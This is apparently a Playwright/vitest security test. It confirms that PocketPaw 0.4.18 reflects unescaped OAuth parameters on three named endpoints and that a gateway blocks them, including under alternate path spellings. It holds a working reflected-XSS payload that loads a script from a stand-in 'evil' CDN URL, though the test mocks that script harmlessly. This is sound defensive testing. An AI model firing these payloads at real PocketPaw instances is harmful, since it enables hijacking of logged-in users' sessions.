import type { BrowserContext } from "playwright-core";
import { expect, inject, test } from "vitest";
import { useBrowser } from "./support/browser.ts";
import { logIn } from "./support/dashboard.ts";

const newContext = useBrowser();
const stack = inject("stack");

/** Where PocketPaw's own policy lets scripts come from. */
const EVIL = "https://cdn.jsdelivr.net/npm/evil";
const SCRIPT = encodeURIComponent(`"><script src="${EVIL}"></script>`);
const AUTHORIZE = `client_id=pocketpaw-desktop&redirect_uri=${encodeURIComponent("http://localhost/")}&code_challenge=c`;
/** Where PocketPaw 0.4.18 reflects a parameter unescaped. */
const REFLECTING = [
  `/oauth/callback?error=${SCRIPT}`,
  `/api/v1/oauth/integrations/callback?error=${SCRIPT}`,
  `/api/v1/oauth/authorize?${AUTHORIZE}&state=${SCRIPT}`,
];

test("PocketPaw itself runs the scripts that it reflects; through the gateway nothing is reflected", async () => {
  for (const path of REFLECTING) expect(await ran(stack.pocketPawUrl, path), path).toBe("1");
  const spellings = REFLECTING.flatMap((path) => [
    path,
    path.replace("/oauth", "//oauth"),
    path.replace("?", "/?"),
  ]);
  for (const path of spellings) expect(await ran(stack.url, path), path).toBeNull();
});

/** What the attacker's script left, if it ran: the visitor is logged in. */
async function ran(url: string, path: string): Promise<string | null> {
  const context: BrowserContext = await newContext();
  await logIn(context, url, stack.masterToken);
  await context.route(EVIL, (route) =>
    route.fulfill({ contentType: "text/javascript", body: "localStorage.setItem('ran','1')" }),
  );
  const page = await context.newPage();
  const response = await page.goto(`${url}${path}`, { waitUntil: "networkidle" });
  if (url === stack.url) expect(response?.ok(), path).toBe(false);
  const mark = await page.evaluate(() => localStorage.getItem("ran"));
  await context.close();
  return mark;
}
